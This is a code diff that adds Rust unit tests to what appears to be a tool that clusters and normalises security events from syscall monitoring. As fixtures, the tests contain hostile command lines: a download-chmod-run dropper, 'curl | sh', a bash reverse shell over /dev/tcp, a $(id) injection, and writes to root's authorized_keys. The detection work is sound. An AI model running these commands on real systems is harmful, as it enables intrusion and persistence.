@@ -1077,6 +1077,164 @@ mod tests {
         assert_eq!(mask_path("a.N.gz"), "a.N");
     }
 
+    /// What a command runs and reaches: options and plain values are left out, programs,
+    /// addresses by class, temporary paths, substitutions and `/dev/tcp` stay.
+    #[test]
+    fn command_reach_keeps_programs_and_places_only() {
+        let r = command_reach;
+        // Other options, other files of the tool's own: the same.
+        assert_eq!(
+            r("lynis audit system --cronjob"),
+            r("lynis audit system --cronjob --profile /etc/lynis/monthly.prf")
+        );
+        assert_eq!(r("pip install -U polars"), r("pip install numpy"));
+        assert_eq!(
+            r("sh -c 'grep -q x a && grep -q y b'"),
+            r("sh -c 'grep -q x a'")
+        );
+        // A download, a chained command, a temporary path, a substitution: not the same.
+        assert_eq!(
+            r("sh -c curl -s -o /tmp/.u http://203.0.113.7/p && chmod +x /tmp/.u && /tmp/.u; rm x"),
+            "sh -c curl drop http://public chmod drop:.u rm"
+        );
+        assert_ne!(
+            r("sh -c rm x"),
+            r("sh -c rm x; curl -s http://203.0.113.7/x | sh")
+        );
+        assert_ne!(
+            r("tar czf /var/backups/e.tgz /etc"),
+            r("tar czf /dev/shm/.x /etc")
+        );
+        assert_ne!(r("convert a b"), r("convert a \"$(id)\""));
+        assert_eq!(
+            r("bash -i >/dev/tcp/203.0.113.9/4444 0>&1"),
+            "bash net-redirect"
+        );
+        assert_ne!(
+            r("rsync -a /d/ b@10.0.0.5:/srv/"),
+            r("rsync -a /d/ b@203.0.113.5:/srv/")
+        );
+        assert_eq!(
+            r("curl --url=http://127.0.0.1:8080/x"),
+            "curl http://loopback"
+        );
+        // Scripts within scripts, however deep; hostile input never panics.
+        let deep = "sh -c ".repeat(100_000) + "id";
+        assert!(r(&deep).ends_with("deep"));
+        for s in ["", "'", "$(", "a@", "://", "| ; &&", "\u{1b}[31m"] {
+            let _ = r(s);
+        }
+    }
+
+    /// The action, the entry and lineage facts, the workload's repository and the server
+    /// are part of the behaviour.
+    #[test]
+    fn signature_keeps_action_entry_workload_and_server() {
+        let base = r#""proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","proc.pname":"bash","user.uid":0"#;
+        let s = |extra: &str| {
+            sig(&format!(
+                r#"{{"rule":"R","output_fields":{{{base}{extra}}}}}"#
+            ))
+        };
+        // Reading is not writing; `openat2` is `open`, `unlinkat` is `unlink`.
+        assert_eq!(
+            action(&ev(r#"{"evt.type":"openat2","evt.arg.flags":"O_RDONLY"}"#)).unwrap(),
+            "open-read"
+        );
+        assert_eq!(
+            action(&ev(
+                r#"{"evt.type":"openat","evt.arg.flags":"O_WRONLY|O_CREAT"}"#
+            ))
+            .unwrap(),
+            "open-write"
+        );
+        assert_eq!(
+            action(&ev(
+                r#"{"evt.type":"open","evt.arg.flags":"O_WRONLY|O_TRUNC"}"#
+            ))
+            .unwrap(),
+            "open-trunc"
+        );
+        assert_eq!(action(&ev(r#"{"evt.type":"unlinkat"}"#)).unwrap(), "unlink");
+        assert_eq!(
+            action(&ev(r#"{"evt.type":"renameat2"}"#)).unwrap(),
+            "rename"
+        );
+        assert_ne!(
+            s(
+                r#","evt.type":"openat","evt.arg.flags":"O_RDONLY","fd.name":"/root/.ssh/authorized_keys""#
+            ),
+            s(
+                r#","evt.type":"openat","evt.arg.flags":"O_WRONLY|O_APPEND","fd.name":"/root/.ssh/authorized_keys""#
+            )
+        );
+        // How the session was entered, and what is in the lineage.
+        let login = s(r#","proc.aname[2]":"sshd","proc.tty":34816"#);
+        assert!(
+            login.lineage.iter().any(|l| l == "entry=login"),
+            "{login:?}"
+        );
+        let exec = s(r#","proc.aname[2]":"runc","proc.tty":34816"#);
+        assert!(
+            exec.lineage.iter().any(|l| l == "entry=runtime"),
+            "{exec:?}"
+        );
+        let web = s(r#","proc.aname[2]":"nginx""#);
+        assert!(
+            web.lineage
+                .iter()
+                .any(|l| l == "entry=none service service-shell"),
+            "{web:?}"
+        );
+        // The first ancestor above the parent that is not a shell.
+        assert_ne!(
+            s(r#","proc.aname[2]":"sh","proc.aname[3]":"node""#),
+            s(r#","proc.aname[2]":"sh","proc.aname[3]":"python3""#)
+        );
+        // The parent's command: a download before is another behaviour.
+        assert_ne!(
+            s(r#","proc.pcmdline":"bash""#),
+            s(r#","proc.pcmdline":"sh -c curl -so /tmp/.u http://203.0.113.7/p; /tmp/.u; rm x""#)
+        );
+        // The image's repository, not its tag; an unknown container is not the host.
+        assert_eq!(
+            image_repository("registry:5000/team/app:1.2@sha256:ab"),
+            "registry:5000/team/app"
+        );
+        assert_eq!(
+            image_repository("registry:5000/team/app"),
+            "registry:5000/team/app"
+        );
+        assert_eq!(image_repository("nginx"), "nginx");
+        assert_eq!(
+            s(r#","container.id":"c1","container.image":"nginx:1.25""#),
+            s(r#","container.id":"c2","container.image":"nginx:1.27""#)
+        );
+        assert_eq!(s(r#","container.id":"c1""#).workload, "container");
+        assert_eq!(s(r#","container.id":"host""#).workload, "host");
+        // The server: by name when known (its last two labels), else a public network.
+        let conn = |extra: &str| {
+            s(&format!(
+                r#","evt.type":"connect","fd.name":"10.0.0.2:51234->{extra}"#
+            ))
+        };
+        assert_eq!(conn(r#"203.0.113.7:443""#), conn(r#"203.0.113.9:443""#));
+        assert_ne!(conn(r#"203.0.113.7:443""#), conn(r#"198.51.100.7:443""#));
+        assert_eq!(conn(r#"10.0.0.5:5432""#), conn(r#"10.0.9.6:5432""#));
+        assert_eq!(
+            conn(r#"140.82.112.3:443","fd.sip.name":"ssh.github.com""#).target,
+            "->public:443 github.com"
+        );
+        assert_ne!(
+            conn(r#"140.82.112.3:443","fd.sip.name":"ssh.github.com""#),
+            conn(r#"140.82.112.3:443","fd.sip.name":"c2.example.net""#)
+        );
+    }
+
+    fn ev(json: &str) -> FlatEvent {
+        parse_records(json, "t").unwrap().remove(0).event
+    }
+
     /// One behaviour is one cluster across runs; the actor's kind, the namespace and the
     /// terminal are part of the behaviour.
     #[test]
